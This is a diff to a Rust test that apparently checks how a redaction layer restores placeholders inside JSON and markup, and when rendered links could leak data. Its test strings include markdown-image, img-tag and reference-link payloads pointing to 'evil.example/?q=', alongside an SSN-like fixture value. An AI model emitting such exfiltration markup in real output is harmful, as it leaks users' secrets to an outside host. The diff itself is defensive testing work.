@@ -195,7 +195,7 @@ fn json_in_prose_is_one_text_to_who_shows_it() {
             r#"["![x](https://evil.example/?q=","T",")"]"#,
             r#"{"![x](https://evil.example/?q=":"T",")":1}"#,
             r#"["<img src='https://evil.example/?q=","T","'>"]"#,
-            r#"["<b>a</b> x='","T"]"#,
+            r#"["<b c='>'>a</b> x='","T"]"#,
             r#"["[1]: https://evil.example/?q=","T"]"#,
             r#""[\"![x](https://evil.example/?q=\",\"T\"]""#,
         ] {
@@ -203,6 +203,10 @@ fn json_in_prose_is_one_text_to_who_shows_it() {
             assert_eq!(shown(&talk, &text), [&*text, &*text]);
         }
     }
+    // Behind a tag that everybody reads alike, a quote opens nothing.
+    let text = r#"["<b>a</b> x='","<1>"]"#;
+    let restored = r#"["<b>a</b> x='","531-27-8846"]"#;
+    assert_eq!(shown(&talk, text), [restored, restored]);
     // What is closed is over, and a tool reads JSON as what it is.
     let text = r#"{"a":"![x](/y) <b>c</b>","ssn":"<1>","n":"<2>"}"#;
     let restored = r#"{"a":"![x](/y) <b>c</b>","ssn":"531-27-8846","n":531278847}"#;
